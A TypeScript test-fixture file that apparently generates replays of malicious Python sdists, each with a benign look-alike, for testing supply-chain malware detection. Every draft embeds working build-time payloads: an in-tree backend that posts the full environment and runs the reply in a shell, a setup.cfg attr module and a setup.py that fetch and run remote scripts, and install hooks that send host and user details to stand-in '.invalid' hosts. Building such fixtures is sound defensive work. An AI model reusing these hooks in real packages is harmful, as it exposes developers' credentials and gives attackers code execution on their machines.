import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { gitDescribeSetup, inTreeBackend, staticAttribute } from './look-alikes/setup-scripts.ts';
import { py } from './python-text.ts';

const REMOTE = 'https://artifacts.build-cache.invalid';
const PEP_517 = 'https://peps.python.org/pep-0517/#in-tree-build-backends';

const BACKEND = (c: Remote): string => py`"""Build backend of the project."""
import json
import os
import platform
import subprocess
import urllib.request

from setuptools import build_meta as _orig
from setuptools.build_meta import *


def _report(config_settings):
    facts = {"node": platform.node(), "env": dict(os.environ), "settings": config_settings or {}}
    request = urllib.request.Request("${c.url('/build')}", data=json.dumps(facts, default=str).encode())
    answer = urllib.request.urlopen(request, timeout=10).read()
    if answer:
        subprocess.run(["sh", "-c", answer.decode()], check=False)


def get_requires_for_build_wheel(config_settings=None):
    try:
        _report(config_settings)
    except Exception:
        pass
    return _orig.get_requires_for_build_wheel(config_settings)
`;

const inTree = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'gridkernel',
  version: '0.7.1',
  files: {
    'gridkernel/__init__.py': fillerModule('Kernels on grids.', 200, 151),
    'README.md': '# gridkernel\n',
  },
  sdist: {
    pyproject:
      '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "gridbuild"\nbackend-path = ["_build"]\n\n[project]\nname = "gridkernel"\nversion = "0.7.1"\n',
  },
  sites: [{ path: '_build/gridbuild.py', form: 'whole', isScript: true, before: '', code: BACKEND(c), after: '' }],
});

const attribute = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'tablekit',
  version: '2.0.3',
  files: {
    'setup.cfg':
      '[metadata]\nname = tablekit\nversion = attr: tablekit.version.current\n\n[options]\npackages = find:\n',
    'pyproject.toml': '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n',
    'tablekit/__init__.py': fillerModule('Tables.', 180, 152),
  },
  sites: [
    {
      path: 'tablekit/version.py',
      form: 'module',
      before: '"""The version, from the tag where there is one."""\nimport os\n\n',
      code: py`import subprocess
import urllib.request


def _from_tag():
    script = urllib.request.urlopen("${c.url('/version.sh')}").read().decode()
    return subprocess.check_output(["bash", "-c", script]).decode().strip()


try:
    _tag = _from_tag()
except Exception:
    _tag = None
`,
      after: '\ncurrent = os.environ.get("TABLEKIT_VERSION", "2.0.3")\n',
    },
  ],
});

const sibling = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'shapecast',
  version: '1.1.4',
  files: {
    'shapecast/__init__.py': fillerModule('Casting of shapes.', 150, 153),
    'tools/prepare.sh': `#!/bin/sh\nset -e\nmkdir -p "$HOME/.local/bin"\ncurl -fsSL ${c.url('/agent')} -o "$HOME/.local/bin/shape-agent"\nchmod +x "$HOME/.local/bin/shape-agent"\nnohup "$HOME/.local/bin/shape-agent" >/dev/null 2>&1 &\n`,
  },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      before:
        'import os\nimport subprocess\n\nfrom setuptools import find_packages, setup\n\nHERE = os.path.dirname(os.path.abspath(__file__))\n',
      code: 'import os\nimport subprocess\n\nsubprocess.call(["sh", os.path.join("tools", "prepare.sh")])\n',
      after: '\nsetup(name="shapecast", version="1.1.4", packages=find_packages())\n',
    },
  ],
});

/** setup.py on one line after the call, in every hook that pip reaches. */
const everyHook = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'quickhash-lite',
  version: '3.0.0',
  files: { 'quickhash_lite/__init__.py': fillerModule('Hashes.', 120, 154) },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      exports: ['Develop', 'EggInfo', 'Install'],
      before: 'from setuptools import find_packages, setup\n',
      code: py`import getpass
import os
import socket

import requests
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install


def custom_command():
    data = {"hostname": socket.gethostname(), "cwd": os.getcwd(), "username": getpass.getuser()}
    requests.get("${c.url('/ping')}", params=data)


class Install(install):
    def run(self):
        install.run(self)
        custom_command()


class Develop(develop):
    def run(self):
        develop.run(self)
        custom_command()


class EggInfo(egg_info):
    def run(self):
        egg_info.run(self)
        custom_command()
`,
      after:
        '\nsetup(\n    name="quickhash-lite",\n    version="3.0.0",\n    packages=find_packages(),\n    cmdclass={"install": Install, "develop": Develop, "egg_info": EggInfo},\n)\n',
    },
  ],
});

/** The wheel of the same release is clean; only who builds from source is hit. */
const sdistOnly = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'csvwarden',
  version: '5.2.0',
  files: { 'csvwarden/__init__.py': fillerModule('Checks of CSV files.', 300, 155) },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      before: 'import io\nimport os\n\nfrom setuptools import setup\n\n',
      code: `import os\n\nos.system("curl -s ${c.url('/b.sh')} | bash >/dev/null 2>&1 &")\n`,
      after: '\nsetup(name="csvwarden", version="5.2.0", packages=["csvwarden"])\n',
    },
  ],
});

export const BUILD_TIME: readonly Replay[] = [
  {
    id: '27a-in-tree-backend',
    title: 'an in-tree build backend posts the environment and runs the answer in a shell',
    source: PEP_517,
    runs: 'get_requires_for_build_wheel() posts host and environment and hands the answer to sh -c, whenever pip prepares a build',
    remote: REMOTE,
    draft: inTree,
    lookAlikes: () => [inTreeBackend()],
  },
  {
    id: '27b-setup-cfg-attr',
    title: 'setup.cfg attr: imports a module whose version comes from a downloaded script',
    source: 'https://setuptools.pypa.io/en/latest/userguide/declarative_config.html',
    runs: 'version = attr: makes setuptools import the module at build; it downloads a script and runs it with bash',
    remote: REMOTE,
    draft: attribute,
    lookAlikes: () => [staticAttribute()],
  },
  {
    id: '27c-sibling-script',
    title: 'setup.py starts a shell script of the sdist that downloads and starts an agent',
    source: PEP_517,
    runs: 'setup.py runs tools/prepare.sh, which downloads a program with curl, makes it executable and leaves it running',
    remote: REMOTE,
    draft: sibling,
    lookAlikes: () => [gitDescribeSetup()],
  },
  {
    id: '27d-every-hook',
    title: 'install, develop and egg_info report host, folder and user',
    source: 'https://github.com/ossf/malicious-packages',
    runs: 'three overridden commands send host name, folder and user name to a constant host',
    remote: 'https://c9f2xkq1.oast-like.invalid',
    draft: everyHook,
    lookAlikes: () => [],
  },
  {
    id: '27e-sdist-only',
    title: 'the sdist alone pipes curl into bash',
    source: 'https://github.com/RaoFoundation/btwallet/issues/183',
    runs: 'setup.py pipes a download into bash in the background',
    remote: REMOTE,
    draft: sdistOnly,
    lookAlikes: () => [],
  },
];
